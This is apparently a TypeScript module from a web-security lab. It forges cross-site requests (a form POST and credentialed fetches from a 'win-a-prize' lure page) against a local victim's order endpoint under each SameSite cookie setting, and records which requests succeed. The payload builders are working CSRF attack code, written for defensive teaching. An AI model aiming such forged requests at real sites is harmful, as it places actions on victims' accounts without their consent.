/** Requests that change something, made by the browser for a page of somebody else. */

import { setTimeout as pause } from 'node:timers/promises';
import type { LabAnswer, LabEvidence, StrategyId } from '../../../shared/nouns/lab';
import type { AttackerServer } from '../attackers/serve-attacker';
import type { LabBrowser } from '../browser/browser-process';
import { helpsFor } from '../catalogue/helps';
import type { Finding } from '../run/finding';
import type { SameSite } from '../../http/plain/cookies';
import { type LoggedRequest, tellRequest } from '../victims/web/request-log';
import { runIn } from '../victims/web/run-in-page';
import type { VictimServer } from '../victims/web/serve-victim';

export interface Target {
  readonly strategy: StrategyId;
  readonly server: VictimServer;
  readonly browser: LabBrowser;
  /** Sets the victim's cookies anew with another attribute; absent where it has none. */
  readonly resetCookies?: (mode: SameSite) => Promise<void>;
}

type From = 'another site' | 'another port';
type How = 'a form' | 'fetch' | 'fetch with a header of its own';

interface Forged {
  readonly from: From;
  readonly how: How;
  readonly mode: SameSite | undefined;
  readonly request: LoggedRequest | undefined;
  readonly said: string;
}

const modes: readonly SameSite[] = ['unset', 'Lax', 'Strict'];
/** How each strategy sets its cookie when left to itself. */
const usual: Readonly<Partial<Record<StrategyId, SameSite>>> = {
  'readable-cookie': 'unset',
  'http-only-cookie': 'Lax',
  'backend-for-frontend': 'Strict',
};
const arrivesWithinMs = 2_000;

const submitForm = (url: string): string => `
  const form = document.createElement('form');
  form.method = 'post';
  form.action = '${url}';
  document.body.append(form);
  setTimeout(() => form.submit(), 0);
  return 'submitted';
`;

const sendFetch = (url: string, options: string): string => `
  const answer = await fetch('${url}', { method: 'POST', credentials: 'include', ${options} });
  return 'type ' + answer.type + ', status ' + answer.status;
`;

const ways: Readonly<Record<How, (url: string) => string>> = {
  fetch: (url) => sendFetch(url, "mode: 'no-cors', body: 'item=Skeleton+keys'"),
  'fetch with a header of its own': (url) =>
    sendFetch(url, "headers: { 'content-type': 'application/json', 'x-orders-app': '1' }, body: '{}'"),
  'a form': submitForm,
};

export async function forgeRequests(target: Target, attacker: AttackerServer): Promise<Finding> {
  const own = usual[target.strategy];
  const forged: Forged[] = [];
  for (const mode of own === undefined ? [undefined] : [...modes.filter((mode) => mode !== own), own]) {
    if (mode !== undefined) await target.resetCookies?.(mode);
    forged.push(...(await forgeFrom(target, attacker, 'another site', mode)));
    forged.push(...(await forgeFrom(target, attacker, 'another port', mode)));
  }
  const ofOwn = forged.filter(({ mode }) => mode === own);
  return {
    answers: { used: answerOf(ofOwn) },
    summary: summarise(own, ofOwn, forged),
    done: [
      'Opened a page of another site, and one at another port of the same host.',
      'Had each send a form, a fetch, and a fetch with a header of its own to what places an order.',
      ...(own === undefined ? [] : ['Did so for every value of SameSite, the usual one of this app last.']),
    ],
    evidence: [...forged.map(tell), ...notes(own, forged)],
    helps: helpsFor(target.strategy, 'request-forgery'),
  };
}

/** The form comes last, because its answer takes the place of the page. */
async function forgeFrom(
  { browser, strategy, server }: Target,
  attacker: AttackerServer,
  from: From,
  mode: SameSite | undefined,
): Promise<readonly Forged[]> {
  const page = `${strategy}/forger`;
  const home = from === 'another site' ? attacker.elsewhere : attacker.samePlace;
  await browser.ask('open', { page, profile: strategy, url: `${home}/win-a-prize` });
  const forged: Forged[] = [];
  for (const how of Object.keys(ways) as How[]) {
    const mark = server.log.mark();
    const said = await runIn(browser, page, ways[how](`${server.origin}/api/orders`)).catch(
      (error: Error) => error.message,
    );
    // Of a form only the server can tell when it has arrived.
    const request = how === 'a form' ? await arrival(server, mark) : posted(server, mark);
    forged.push({ from, how, mode, request, said: String(said) });
  }
  await browser.ask('close', { page });
  return forged;
}

async function arrival(server: VictimServer, mark: number): Promise<LoggedRequest | undefined> {
  for (let waitedMs = 0; waitedMs < arrivesWithinMs; waitedMs += 20) {
    const request = posted(server, mark);
    if (request !== undefined && request.status !== 0) return request;
    await pause(20);
  }
  return undefined;
}

function posted(server: VictimServer, mark: number): LoggedRequest | undefined {
  return server.log.since(mark, '/api/orders').at(-1);
}

function worked({ request }: Forged): boolean {
  return request?.method === 'POST' && request.status === 200;
}

function answerOf(forged: readonly Forged[]): LabAnswer {
  const successes = forged.filter(worked);
  if (successes.some(({ from }) => from === 'another site')) return 'yes';
  return successes.length > 0 ? 'partly' : 'no';
}

function summarise(own: SameSite | undefined, ofOwn: readonly Forged[], all: readonly Forged[]): string {
  if (own === undefined) {
    return 'The browser attaches nothing by itself, so a forged request is refused: it carries no token.';
  }
  const setting = own === 'unset' ? 'without a SameSite attribute' : `with SameSite=${own}`;
  const answer = answerOf(ofOwn);
  if (answer === 'yes') return `Another site places an order: the cookie, set ${setting}, goes along.`;
  if (answer === 'partly') {
    return `With the cookie set ${setting}, another site fails, and another port of the host places an order.`;
  }
  return all.some(worked)
    ? `Refused with the cookie set ${setting}; a weaker setting lets forged requests through.`
    : 'Every forged request is refused, whatever SameSite says: it lacks the header of the app.';
}

function tell({ from, how, mode, request, said }: Forged): LabEvidence {
  const setting = mode === undefined ? '' : mode === 'unset' ? ', no SameSite' : `, SameSite=${mode}`;
  const what = `From ${from} by ${how}${setting}`;
  if (request === undefined)
    return { kind: 'refusal', what, message: `Nothing arrived. The browser said: ${said}` };
  const answer = request.status === 200 ? 'The order was placed.' : `The page heard: ${said}`;
  return { kind: 'exchange', what, request: tellRequest(request), status: request.status, answer };
}

function notes(own: SameSite | undefined, forged: readonly Forged[]): readonly LabEvidence[] {
  const lenient = forged.some(
    (each) => worked(each) && each.mode === 'unset' && each.from === 'another site' && each.how === 'a form',
  );
  if (own === undefined || !lenient) return [];
  return [
    {
      kind: 'note',
      text: 'Chromium treats a cookie without SameSite as Lax, but for two minutes after it was set sends it with a form of another site, too. This one was set seconds before.',
    },
  ];
}
